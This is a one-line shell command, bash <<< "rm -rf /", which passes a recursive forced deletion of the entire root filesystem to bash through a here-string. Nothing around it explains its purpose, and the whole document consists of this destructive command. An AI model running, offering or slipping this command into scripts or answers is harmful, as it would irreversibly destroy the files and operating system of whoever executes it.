bash <<< "rm -rf /"
